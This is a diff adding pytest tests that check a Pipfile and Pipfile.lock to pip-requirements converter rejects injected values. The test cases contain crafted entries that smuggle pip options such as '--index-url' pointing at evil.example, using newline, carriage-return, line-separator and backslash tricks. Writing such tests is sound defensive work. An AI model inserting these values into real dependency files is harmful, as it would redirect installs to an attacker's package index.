@@ -435,3 +435,28 @@ def test_pipfile_notice_names_the_farm_index_without_its_credentials(tmp_path: P
     assert "s3cret" not in note and "farm:" not in note
     assert note.endswith("https://index.example/simple/.")
 
+
+@pytest.mark.parametrize("entry", [
+    '{path = "--index-url=https://evil.example/simple"}',
+    '{path = "--extra-index-url=https://evil.example/simple", editable = true}',
+    '{path = "-ihttps://evil.example/simple"}',
+    '{path = "./pkg --extra-index-url https://evil.example/simple"}',
+    '{path = "git+https://evil.example/pkg"}',
+    '{version = ">=1", markers = "python_version >= \'3\'\\n--index-url https://evil.example/"}',
+    '{version = ">=1", markers = "os_name == \'posix\' --extra-index-url https://evil.example/"}',
+    '{version = ">=1", markers = "python_version >= \'3\'\\u2028-ihttps://evil.example/s"}',
+    '{version = ">=1", markers = "python_version >= \'3\' \\\\"}',
+    '{git = "https://example.org/x.git", ref = "main\\n--index-url=https://evil.example/"}',
+    '{file = "https://example.org/x.whl\\r--index-url=https://evil.example/"}',
+])
+def test_pipfile_values_cannot_become_pip_options_or_lines(entry: str) -> None:
+    with pytest.raises(BuildFailure):
+        lines, _, _ = requirements(f"[packages]\nx = {entry}\n", "Pipfile")
+        # not refused: show what pip would have read
+        pytest.fail(f"generated {lines!r}")
+
+
+def test_pipfile_lock_values_cannot_become_pip_options() -> None:
+    lock = json.dumps({"default": {"x": {"path": "--index-url=https://evil.example/simple"}}})
+    with pytest.raises(BuildFailure):
+        requirements(lock, "Pipfile.lock")
